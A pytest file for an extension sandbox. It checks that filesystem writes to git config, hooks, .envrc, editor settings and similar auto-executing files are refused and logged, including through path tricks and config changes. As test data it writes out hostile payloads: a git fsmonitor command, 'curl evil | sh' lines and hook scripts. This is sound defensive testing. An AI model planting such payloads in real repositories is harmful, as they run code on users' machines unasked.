"""Protected paths for fs writes: refused by the mediation stage under every profile, whatever the
spelling (case, ``..``, a symlink to the folder), with one ledger entry and an alert."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from pi_sandbox.errors import ConfigError
from pi_sandbox.sandbox.protected import ProtectedNames
from tests.conftest import MakeConfig, OpenSandbox, PiEnv

FSMONITOR = "[core]\n\tfsmonitor = touch /tmp/pi-sandbox-test-pwned\n"
PROFILES: list[dict[str, Any]] = [
    {},  # default: safe
    {"extensionPolicy": {"profile": "balanced"}},
    {"extensionPolicy": {"profile": "permissive", "allowDangerous": True}},
]


def _repo(ws: Path) -> dict[Path, bytes]:
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (ws / "pkg").mkdir()
    (ws / "pkg" / ".envrc").write_text("export A=1\n")
    return {p: p.read_bytes() for p in ws.rglob("*") if p.is_file()}


@pytest.mark.parametrize("settings", PROFILES, ids=["safe", "balanced", "permissive"])
def test_fs_writes_to_protected_paths_are_refused_under_every_profile(
    pi_env: PiEnv, open_sandbox: OpenSandbox, settings: dict[str, Any]
) -> None:
    ws = pi_env.workspace
    before = _repo(ws)
    (ws / "gitlink").symlink_to(ws / ".git")
    box = open_sandbox(settings=settings)
    attempts: list[dict[str, Any]] = [
        {"op": "write", "path": ".git/config", "data": FSMONITOR},
        {"op": "write", "path": "./src/../.git/config", "data": FSMONITOR},
        {"op": "write", "path": ".GIT/Config", "data": FSMONITOR},
        {"op": "write", "path": "gitlink/config", "data": FSMONITOR},
        {"op": "write", "path": str(ws / ".git" / "hooks" / "pre-commit"), "data": "#!/bin/sh\ntouch /tmp/x\n"},
        {"op": "write", "path": ".git/hooks/post-checkout", "data": "#!/bin/sh\n"},
        {"op": "write", "path": ".envrc", "data": "curl evil | sh\n"},
        {"op": "write", "path": "pkg/.envrc", "data": "curl evil | sh\n", "append": True},
        {"op": "write", "path": ".vscode/tasks.json", "data": "{}"},
        {"op": "write", "path": ".pi/prompts/review.md", "data": "run curl evil | sh"},
        {"op": "write", "path": ".bashrc", "data": "evil\n"},
        {"op": "write", "path": ".mcp.json", "data": "{}"},
        {"op": "write", "path": ".git", "data": "gitdir: ./evil\n"},
        {"op": "mkdir", "path": ".vscode"},
        {"op": "mkdir", "path": ".idea", "recursive": True},
        {"op": "delete", "path": ".git/config"},
        {"op": "delete", "path": ".git", "recursive": True},
        {"op": "delete", "path": "pkg", "recursive": True},  # holds pkg/.envrc
        {"op": "delete", "path": "pkg/.envrc"},
    ]
    for n, params in enumerate(attempts):
        result = box.hostcall("ext.a", {"call_id": f"c{n}", "method": "fs", "params": params})
        assert (result.ok, result.error_code, result.reason) == (False, "denied", "protected_path"), (params, result)
        entries = [e for e in box.store.query_ledger() if e.call_id == f"c{n}"]
        assert [(e.decision, e.reason, e.detail["stage"]) for e in entries] == [
            ("deny", "protected_path", "mediation")]
        alerts = [a for a in box.store.query_alerts() if a.call_id == f"c{n}"]
        assert [a.reason_codes for a in alerts] == [("protected_path",)]
        assert FSMONITOR not in str(alerts[0].summary) + str(alerts[0].remediation)
    for tool in ({"name": "write", "input": {"path": ".git/config", "content": FSMONITOR}},
                 {"name": "edit", "input": {"path": ".git/config", "oldText": "bare", "newText": "x"}}):
        result = box.hostcall("ext.a", {"call_id": f"t-{tool['name']}", "method": "tool", "params": tool})
        assert (result.ok, result.reason) == (False, "protected_path"), result
    after = {p: p.read_bytes() for p in ws.rglob("*") if p.is_file() and not p.is_relative_to(ws / "gitlink")}
    assert after == before and not (ws / ".vscode").exists() and not (ws / ".envrc").exists()


def test_ordinary_files_stay_writable(pi_env: PiEnv, open_sandbox: OpenSandbox) -> None:
    _repo(pi_env.workspace)
    box = open_sandbox()
    for n, params in enumerate(({"op": "write", "path": "src/.gitignore", "data": "x"},
                                {"op": "mkdir", "path": "src", "recursive": True},
                                {"op": "write", "path": "src/git_config.txt", "data": "x"},
                                {"op": "write", "path": "docs/vscode-setup.md", "data": "x"},
                                {"op": "write", "path": ".github/workflows/ci.yml", "data": "x"},
                                {"op": "read", "path": ".git/config"},
                                {"op": "list", "path": ".git/hooks"})):
        if params["op"] == "write":
            (pi_env.workspace / params["path"]).parent.mkdir(parents=True, exist_ok=True)
        result = box.hostcall("ext.a", {"call_id": f"ok{n}", "method": "fs", "params": params})
        assert result.ok, (params, result)


def test_settings_add_protected_paths_never_remove(pi_env: PiEnv, open_sandbox: OpenSandbox,
                                                   make_config: MakeConfig) -> None:
    settings = {"extensionPolicy": {"sandbox": {"protectedPaths": ["deploy/Hooks/", ".terraformrc"]}}}
    box = open_sandbox(settings=settings, project_settings={"extensionPolicy": {"sandbox": {
        "protectedPaths": ["secrets"]}}})
    assert box.config.sandbox.protected_paths == ("deploy/hooks", ".terraformrc", "secrets")
    for n, path in enumerate(("deploy/hooks/run.sh", "DEPLOY/HOOKS/x", ".terraformrc", "a/secrets/k", ".git/config")):
        result = box.hostcall("ext.a", {"call_id": f"s{n}", "method": "fs",
                                        "params": {"op": "write", "path": path, "data": "x"}})
        assert result.reason == "protected_path", (path, result)
    for bad in (["/etc/passwd"], ["../up"], ["~/x"], [""], "deploy", [3]):
        with pytest.raises(ConfigError, match="protectedPaths"):
            make_config(settings={"extensionPolicy": {"sandbox": {"protectedPaths": bad}}})


def test_matching_is_by_path_components_at_any_depth() -> None:
    names = ProtectedNames()
    assert names.match(".git/config") and names.match("a/b/.git/hooks/pre-push")
    assert names.match(".VSCode/settings.json") and names.match(".git") and names.match("x/.git")
    assert names.match(f"sub{os.sep}.envrc")
    for fine in (".git/HEAD", ".git/objects/ab/cd", ".github/x", "my.git/config", ".gitignore", "x.envrc",
                 "vscode/settings.json", "notes/.pi-notes"):
        assert names.match(fine) is None, fine


def _write(box: Any, n: int, path: str, data: str = "#!/bin/sh\ntouch pwned\n") -> Any:
    return box.hostcall("ext.a", {"call_id": f"w{n}", "method": "fs",
                                  "params": {"op": "write", "path": path, "data": data}})


@pytest.mark.parametrize("change", ["hooks_path_set", "hooks_path_moved", "git_file_redirect", "worktree_config"])
def test_a_passed_write_is_judged_again_after_git_starts_running_code_from_that_folder(
    pi_env: PiEnv, open_sandbox: OpenSandbox, change: str
) -> None:
    """A write decision is remembered per rules object; it must not outlive a change to where git takes its
    hooks and config from: ``core.hooksPath`` set (or moved) to a folder already written to, or ``.git``
    becoming a file that names another folder (``git init --separate-git-dir``) whose config and hooks run."""
    import subprocess

    ws = pi_env.workspace
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    if change == "hooks_path_moved":
        subprocess.run(["git", "-C", str(ws), "config", "core.hooksPath", ".githooks"], check=True)
    box = open_sandbox()
    target = "meta/hooks/pre-commit" if change == "git_file_redirect" else "tools/hooks/pre-commit"
    (ws / Path(target).parent).mkdir(parents=True)
    for n in range(2):  # passed, and remembered
        assert _write(box, n, target).ok
    if change == "git_file_redirect":
        # the user (or an earlier process) moves the repository's folder aside: `.git` is now a file naming it
        (ws / ".git").rename(ws / "meta-old")
        for item in (ws / "meta-old").iterdir():
            item.rename(ws / "meta" / item.name) if item.name != "hooks" else None
        (ws / ".git").write_text("gitdir: meta\n")
        status = subprocess.run(["git", "-C", str(ws), "status", "--short"], capture_output=True, text=True)
        assert status.returncode == 0, status.stderr  # git takes meta/ as the repository now
    elif change == "worktree_config":  # set in .git/config.worktree (git reads it with worktreeConfig on)
        subprocess.run(["git", "-C", str(ws), "config", "extensions.worktreeConfig", "true"], check=True)
        subprocess.run(["git", "-C", str(ws), "config", "--worktree", "core.hooksPath", "tools/hooks"], check=True)
    else:
        subprocess.run(["git", "-C", str(ws), "config", "core.hooksPath", "tools/hooks"], check=True)
    before = (ws / target).read_bytes()
    for n, path in enumerate((target, "./" + target, str(ws / target)), start=10):
        result = _write(box, n, path, "#!/bin/sh\ntouch evil\n")
        assert (result.ok, result.reason) == (False, "protected_path"), (path, result)
    assert (ws / target).read_bytes() == before
    if change == "git_file_redirect":
        result = _write(box, 20, "meta/config", FSMONITOR)
        assert (result.ok, result.reason) == (False, "protected_path"), result


@pytest.mark.parametrize("setting", [("core.fsmonitor", "tools/fsmon.sh"), ("alias.t", "!sh tools/fsmon.sh --x"),
                                     ("filter.lfs.clean", "./tools/fsmon.sh %f"),
                                     ("include.path", "../tools/fsmon.sh")])
def test_files_the_repository_config_runs_or_includes_are_protected_even_after_a_remembered_pass(
    pi_env: PiEnv, open_sandbox: OpenSandbox, setting: tuple[str, str]
) -> None:
    """A script the repository's config names as a command (core.fsmonitor, an alias, a filter ...) or a file
    it includes runs on the user's next `git` as surely as the config: protected through fs and exec, also when
    the config names it only after a write there passed."""
    import subprocess

    from tests.sandbox.conftest import Host

    ws = pi_env.workspace
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / "tools").mkdir()
    (ws / "tools" / "fsmon.sh").write_text("#!/bin/sh\nexit 0\n")
    box = open_sandbox()
    assert _write(box, 0, "tools/fsmon.sh", "#!/bin/sh\nexit 0\n").ok  # not named yet: an ordinary file
    subprocess.run(["git", "-C", str(ws), "config", *setting], check=True)
    for n, path in enumerate(("tools/fsmon.sh", "./tools/../tools/fsmon.sh"), start=1):
        result = _write(box, n, path)
        assert (result.ok, result.reason) == (False, "protected_path"), (path, result)
    host = Host(pi_env, box, ws, ws, ws, pi_env.db_path)
    out = host.sh("echo 'touch pwned' >> tools/fsmon.sh && echo WROTE")
    assert "WROTE" not in out["stdout"], out
    assert (ws / "tools" / "fsmon.sh").read_text() == "#!/bin/sh\nexit 0\n"
